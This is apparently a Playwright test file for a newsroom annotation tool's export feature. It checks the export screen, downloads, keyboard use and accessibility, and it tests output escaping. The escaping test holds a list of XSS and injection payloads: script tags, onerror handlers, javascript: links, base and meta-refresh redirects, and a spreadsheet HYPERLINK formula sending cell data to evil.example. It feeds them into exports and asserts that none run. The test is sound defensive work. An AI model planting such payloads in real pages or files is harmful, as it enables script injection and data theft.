import { readFile, writeFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { exportFormats } from '@/domain/contract/export';
import { expectAccessible } from '@/e2e/fixtures/accessibility';
import { expect, test } from '@/e2e/fixtures/test';

// Its recorder would run a script in the frame of the preview, where none may; so that none is ever seen to try.
test.use({ trace: 'off' });

const text =
  'The ferry 🚢 stayed in port on Friday. “We sail when the wind drops,” Ada Lind told the harbour radio.\n\nIt has not sailed since.';

test.describe('an article with an approved and a pending mark', () => {
  let slug: string;
  let exportOf: (format: string, query?: string) => string;

  test.beforeEach(async ({ page, signIn, api, newArticle, newMark }) => {
    const article = await newArticle({ headline: 'The ferry waits for the wind', text });
    const quote = await newMark(article, {
      kind: 'quote',
      words: 'We sail when the wind drops',
      details: { directness: 'direct', speaker: { name: 'Ada Lind' } },
    });
    await newMark(article, { kind: 'claim', words: 'It has not sailed since' });
    const reviewer = await api('reviewer');
    const decided = await reviewer('POST', `/api/annotations/${quote.id}/reviews`, {
      version: 1,
      body: { decision: 'approve' },
    });
    expect(decided.status).toBe(201);
    slug = article.slug;
    exportOf = (format, query = '') => `/api/articles/${article.id}/export/${format}${query}`;
    await signIn(page, 'editor');
    await page.goto(`/articles/${slug}/export`);
  });

  test('the screen says what leaves and what stays, and shows the page with approved marks alone', async ({
    page,
  }) => {
    await expect(page.getByText('1 mark will be in it: 1 quote.')).toBeVisible();
    await expect(page.getByText('Left out: 1 pending.')).toBeVisible();
    await expect(page.getByRole('link', { name: 'See them on the desk' })).toHaveAttribute(
      'href',
      `/articles/${slug}?status=pending`,
    );
    await expect(page.getByText('Nothing is lost in this format.')).toBeVisible();
    const preview = page.frameLocator('iframe[title="Preview: Annotated page"]');
    await expect(preview.getByText('Approved marks only: 1 quote.')).toBeVisible();
    await expect(preview.locator('article mark')).toHaveText(['We sail when the wind drops']);

    await page.getByRole('radio', { name: 'All marks' }).check();
    await expect(page.getByText('2 marks will be in it: 1 quote, 1 claim.')).toBeVisible();
    await expect(preview.locator('article mark')).toHaveText([
      'We sail when the wind drops',
      'It has not sailed since',
    ]);
  });

  test('the page is downloaded as the file that the preview shows', async ({ page }) => {
    const downloading = page.waitForEvent('download');
    await page.getByRole('link', { name: 'Download' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe(`${slug}.html`);
    const file = await readFile(await download.path(), 'utf8');
    const shown = await page.request.get(exportOf('html', '?preview=1'));
    expect(file).toBe(await shown.text());
  });

  test('a table is shown as one, with what it cannot carry, and copied whole', async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.getByRole('radio', { name: 'Table' }).check();
    await expect(page).toHaveURL(/format=csv/);
    await expect(page.getByRole('cell', { name: 'We sail when the wind drops', exact: true })).toBeVisible();
    await expect(page.getByText('The article’s text stays behind')).toBeVisible();
    await page.getByRole('button', { name: 'Copy' }).click();
    await expect(page.getByText('Copied', { exact: true })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    const whole = (await (await page.request.get(exportOf('csv'))).body()).toString('utf8');
    // What the system's clipboard makes of line ends is its own.
    expect(copied.replaceAll('\r\n', '\n').replace('\uFEFF', '')).toBe(
      whole.replaceAll('\r\n', '\n').replace('\uFEFF', ''),
    );
  });

  test('everything is done with keys alone', async ({ page }) => {
    await page.getByRole('radio', { name: 'Annotated page' }).focus();
    await page.keyboard.press('ArrowDown');
    await expect(page.getByRole('radio', { name: 'Web Annotation' })).toBeChecked();
    await expect(page.getByRole('region', { name: 'Preview: Web Annotation' })).toContainText(
      '"type": "AnnotationCollection"',
    );
    await page.keyboard.press('Tab');
    await page.keyboard.press('ArrowDown');
    await expect(page.getByRole('radio', { name: 'All marks' })).toBeChecked();
    const downloading = page.waitForEvent('download');
    await page.getByRole('link', { name: 'Download' }).focus();
    await page.keyboard.press('Enter');
    const file = JSON.parse(await readFile(await (await downloading).path(), 'utf8'));
    expect(file.total).toBe(3);
  });

  test('the choice is part of the address', async ({ page }) => {
    await page.goto(`/articles/${slug}/export?format=bluepencil&status=all`);
    await expect(page.getByRole('radio', { name: 'Bluepencil file' })).toBeChecked();
    await expect(page.getByRole('radio', { name: 'All marks' })).toBeChecked();
    await expect(page.getByRole('region', { name: 'Preview: Bluepencil file' })).toContainText(
      '"scope": "all"',
    );
  });

  test('the screen is accessible in both themes, whatever it shows', async ({ page }) => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      for (const name of ['Bluepencil file', 'Table', 'Annotated page']) {
        await page.getByRole('radio', { name }).check();
        await expect(page.getByText('Looking…')).toBeHidden();
        await expectAccessible(page);
      }
    }
  });

  test('the exported page is accessible in both themes', async ({ page }, testInfo) => {
    const file = testInfo.outputPath('export.html');
    await writeFile(file, await (await page.request.get(exportOf('html', '?status=all'))).body());
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      await page.goto(`file://${file}`);
      await expectAccessible(page);
    }
  });
});

/** Each would show itself by a dialog, a request or a changed page if it ran. */
const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x" onerror="alert(1)">',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">here</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  ']]><script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?"&A1,"here")',
];

test('what people wrote never runs, loads or leaves in any export', async ({
  page,
  context,
  signIn,
  api,
  newArticle,
}, testInfo) => {
  const all = payloads.join(' ');
  const article = await newArticle({
    headline: all.slice(0, 480),
    byline: all.slice(0, 280),
    source: all.slice(0, 280),
    desk: payloads[5]?.slice(0, 70),
    text: payloads.join('\n\n'),
  });
  const editor = await api('editor');
  const marked: string[] = [];
  for (const [place, payload] of payloads.entries()) {
    const start = article.revision.text.indexOf(payload.trim());
    expect(start, payload).toBeGreaterThanOrEqual(0);
    const details = [
      {
        kind: 'quote',
        details: { directness: 'direct', speaker: { name: payload, role: payload }, cue: payload },
      },
      {
        kind: 'claim',
        details: {
          statement: payload,
          explanation: payload,
          evidence: [{ url: 'https://a.example/"onclick=alert(1)', title: payload }],
        },
      },
      { kind: 'event', details: { title: payload, place: payload, participants: [payload] } },
    ][place % 3];
    const made = await editor('POST', `/api/articles/${article.id}/annotations`, {
      body: {
        ...details,
        revision: 1,
        spans: [{ start, end: start + payload.trim().length }],
        labels: [payload.slice(0, 80)],
        note: `${payload}\u2028alert(1)\u2029`,
      },
    });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    marked.push(payload.trim());
  }
  const reviewer = await api('reviewer');
  const { body: list } = await editor('GET', `/api/articles/${article.id}/annotations`);
  const rejected = await reviewer('POST', `/api/annotations/${list.items[0].id}/reviews`, {
    version: 1,
    body: { decision: 'reject', reason: 'other', note: all },
  });
  expect(rejected.status).toBe(201);

  await signIn(page, 'editor');
  const watched = watch(page);
  for (const format of exportFormats) {
    const address = `/api/articles/${article.id}/export/${format}?status=all`;
    const file = testInfo.outputPath(`${format}.html`);
    await writeFile(file, await (await page.request.get(address)).body());

    // Shown by the server, and, for what a browser can show, from a disk where no header protects it.
    await page.goto(`${address}&preview=1`).catch(() => undefined);
    if (format === 'html') {
      expect(await wordsOf(page)).toEqual(marked);
      await page.goto(`file://${file}`);
      expect(await wordsOf(page)).toEqual(marked);
      await page.locator('body').hover();
    }
  }
  await page.goto(`/articles/${article.slug}/export?status=all`);
  for (const name of ['Web Annotation', 'Table', 'Bluepencil file']) {
    await page.getByRole('radio', { name }).check();
    await expect(page.getByRole('region', { name: `Preview: ${name}` })).toContainText('alert(1)');
  }
  expect(watched).toEqual([]);
  expect(context.pages()).toHaveLength(1);
});

/** Collects what a page must not do: try a script, open a dialog, or ask anybody but us for anything. */
function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    return dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.text().includes('Blocked script')) seen.push(message.text());
  });
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (hostname !== 'localhost' && protocol !== 'file:') seen.push(`request ${request.url()}`);
  });
  return seen;
}

/** The words under each mark of an exported page, in the order of the text. */
async function wordsOf(page: Page): Promise<string[]> {
  return page.locator('article mark').allTextContents();
}
